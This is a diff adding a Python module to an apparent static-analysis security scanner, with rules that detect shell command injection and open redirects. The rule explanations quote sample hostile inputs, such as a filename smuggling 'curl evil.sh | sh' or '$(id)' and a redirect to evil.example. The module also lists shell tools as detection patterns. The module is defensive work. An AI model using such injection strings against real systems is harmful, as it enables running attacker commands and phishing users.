@@ -1,0 +1,181 @@
+"""PY-CMDI-001 and PY-REDIRECT-001: commands run through a shell, redirects to attacker-chosen places."""
+
+from __future__ import annotations
+
+import ast
+import re
+from collections.abc import Iterator, Sequence
+
+from slopguard.core.finding import Confidence, Severity
+from slopguard.engine.python.context import PyContext
+from slopguard.engine.python.taint import Flow
+from slopguard.engine.registry import Hit, hit_at, python_rule
+from slopguard.rules.python.common import describe, first_arg, method_name
+from slopguard.rules.python.injection_helpers import fixed_destination, resolve, url_checked
+
+_SUBPROCESS = frozenset({"run", "call", "check_call", "check_output", "Popen"})
+_ALWAYS_SHELL = frozenset(
+    {
+        "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
+        "commands.getoutput", "commands.getstatusoutput", "asyncio.create_subprocess_shell",
+    }
+)  # fmt: skip
+_EXEC_FAMILY = re.compile(r"^os\.(?:exec|spawn)(l|v)p?e?$|^os\.posix_spawnp?$")
+_SHELLS = frozenset(
+    {"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "cmd", "cmd.exe", "powershell", "pwsh"}
+)
+_SCRIPT_FLAG = re.compile(r"^(?:-[a-zA-Z]*c[a-zA-Z]*|/[cCkK]|-(?i:command|encodedcommand))$")
+_STRING_COMMANDS = (ast.JoinedStr, ast.BinOp, ast.Subscript, ast.Attribute, ast.Call)
+
+
+@python_rule(
+    id="PY-CMDI-001",
+    title="OS command built from non-constant data",
+    cwe=78,
+    severity=Severity.HIGH,
+    confidence=Confidence.HIGH,
+    nodes=(ast.Call,),
+    why="""Assistants wrap command-line tools with os.system(f"convert {name} ...") or subprocess.run(cmd,
+    shell=True) because one string is shorter than an argument list. A shell parses the string: a filename
+    or host such as 'x; curl evil.sh | sh' or '$(id)' runs the attacker's commands with the server's
+    privileges. Passing the program name itself from the request gives them any binary on the box.""",
+    fix="""Pass an argument list without a shell: subprocess.run(["convert", name, out], check=True), with
+    "--" before user values where the tool accepts it; if a shell is unavoidable, shlex.quote() each value.""",
+)
+def command_injection(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
+    name = ctx.call_name(node)
+    module, _, func = name.rpartition(".")
+    if name in _ALWAYS_SHELL or func == "subprocess_shell":
+        cmd = node.args[1] if func == "subprocess_shell" and len(node.args) > 1 else first_arg(node, "cmd")
+        yield from _shell_string(node, ctx, cmd, f"{name}()")
+    elif module == "subprocess" and func in _SUBPROCESS:
+        cmd = first_arg(node, "args")
+        if cmd is None:
+            return
+        if ctx.is_true(ctx.kwarg(node, "shell")):
+            script = resolve(ctx, cmd)
+            if isinstance(script, ast.List | ast.Tuple):
+                cmd = script.elts[0] if script.elts else cmd
+            yield from _shell_string(node, ctx, cmd, f"{name}(shell=True)")
+        else:
+            yield from _argv(node, ctx, cmd, name)
+    elif name == "asyncio.create_subprocess_exec" and node.args:
+        yield from _argv_items(node, ctx, node.args, name)
+    elif match := _EXEC_FAMILY.match(name):
+        args = node.args[1:] if "spawn" in name and not name.startswith("os.posix") else node.args
+        if not args:
+            return
+        if match.group(1) == "l":
+            yield from _argv_items(node, ctx, [args[0], *args[2:]], name)
+        else:
+            vector = resolve(ctx, args[1]) if len(args) > 1 else None
+            rest = vector.elts[1:] if isinstance(vector, ast.List | ast.Tuple) else []
+            yield from _argv_items(node, ctx, [args[0], *rest], name)
+    elif method_name(node) == "exec_command" and node.args:  # paramiko: a shell on the remote host
+        flow = ctx.tainted(node.args[0])
+        if flow is not None:
+            yield _hit(node, "exec_command() runs a remote shell command", flow)
+
+
+def _hit(node: ast.Call, what: str, flow: Flow) -> Hit:
+    return hit_at(
+        node,
+        f"{what} built from {describe(flow)}; pass an argument list without a shell, or shlex.quote() values",
+        confidence=Confidence.HIGH if flow.tainted else Confidence.MEDIUM,
+    )
+
+
+def _shell_string(node: ast.Call, ctx: PyContext, cmd: ast.expr | None, what: str) -> Iterator[Hit]:
+    if cmd is None or isinstance(cmd, ast.Constant):
+        return
+    flow = ctx.flow(cmd)
+    if flow.dynamic:
+        yield _hit(node, f"shell command for {what} is", flow)
+
+
+def _argv(node: ast.Call, ctx: PyContext, cmd: ast.expr, name: str) -> Iterator[Hit]:
+    """``subprocess.run(argv)`` without a shell: the program and ``sh -c`` scripts matter, arguments do not."""
+    value = resolve(ctx, cmd)
+    if isinstance(value, ast.List | ast.Tuple):
+        yield from _argv_items(node, ctx, value.elts, name)
+        return
+    if not isinstance(value, _STRING_COMMANDS):
+        return
+    if isinstance(value, ast.Call) and method_name(value) != "split":
+        return
+    flow = ctx.tainted(cmd)
+    if flow is not None:  # a whole command line (or argv) from the request: the attacker picks the program
+        yield _hit(node, f"program run by {name}() is", flow)
+
+
+def _argv_items(node: ast.Call, ctx: PyContext, items: Sequence[ast.expr], name: str) -> Iterator[Hit]:
+    if not items or isinstance(items[0], ast.Starred):
+        return
+    program, args = items[0], list(items[1:])
+    text = ctx.string(resolve(ctx, program)) or ""
+    if text.rsplit("/", 1)[-1] == "env" and args:
+        program, args = args[0], args[1:]
+        text = ctx.string(resolve(ctx, program)) or ""
+    flow = ctx.tainted(program)
+    if flow is not None:
+        yield _hit(node, f"program run by {name}() is", flow)
+        return
+    shell = text.replace("\\", "/").rsplit("/", 1)[-1].lower()
+    if shell not in _SHELLS and shell.removesuffix(".exe") not in _SHELLS:
+        return
+    for i, arg in enumerate(args[:-1]):
+        if _SCRIPT_FLAG.match(ctx.string(arg) or ""):
+            script = args[i + 1]
+            if isinstance(script, ast.Starred | ast.Constant):
+                return
+            flow_script = ctx.flow(script)
+            if flow_script.dynamic:
+                yield _hit(node, f"{shell} -c script for {name}() is", flow_script)
+            return
+
+
+_REDIRECT_MODULES = frozenset({"flask", "werkzeug", "django", "starlette", "fastapi", "quart", "sanic"})
+_REDIRECT_FUNCS = frozenset(
+    {"redirect", "HttpResponseRedirect", "HttpResponsePermanentRedirect", "RedirectResponse"}
+)
+_URL_KWARGS = ("location", "to", "redirect_to", "url")
+_SELF_URLS = frozenset({"url", "path", "full_path", "base_url", "url_root", "host_url"})
+
+
+@python_rule(
+    id="PY-REDIRECT-001",
+    title="Open redirect to a request-supplied URL",
+    cwe=601,
+    severity=Severity.MEDIUM,
+    confidence=Confidence.HIGH,
+    nodes=(ast.Call,),
+    why="""After login, logout or a form post, assistants send the user back with redirect(request.args["next"])
+    or HttpResponseRedirect(request.GET.get("next")). An attacker mails a link to the real site with
+    ?next=https://evil.example/login; the trusted domain in the link makes the phishing page that follows
+    believable, and OAuth flows can leak tokens to it.""",
+    fix="""Redirect to url_for()/reverse() targets, or check the value first: Django's
+    url_has_allowed_host_and_scheme(url, allowed_hosts={request.get_host()}), or accept only paths that start
+    with a single '/', falling back to a fixed page.""",
+)
+def open_redirect(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
+    name = ctx.call_name(node)
+    head = name.partition(".")[0]
+    if name.rsplit(".", 1)[-1] not in _REDIRECT_FUNCS or head not in _REDIRECT_MODULES:
+        return
+    url = first_arg(node)
+    if url is None:
+        url = next((kw.value for kw in node.keywords if kw.arg in _URL_KWARGS), None)
+    if url is None:
+        return
+    flow = ctx.tainted(url)
+    if flow is None:
+        return
+    if isinstance(url, ast.Attribute) and url.attr in _SELF_URLS:  # redirect(request.url): back to this page
+        return
+    if fixed_destination(ctx, url) or url_checked(ctx, url, node.lineno):
+        return
+    func = name.rsplit(".", 1)[-1]
+    yield hit_at(
+        node,
+        f"{func}() sends the user to a URL taken from {describe(flow)}; allow-list the target or use url_for()",
+    )
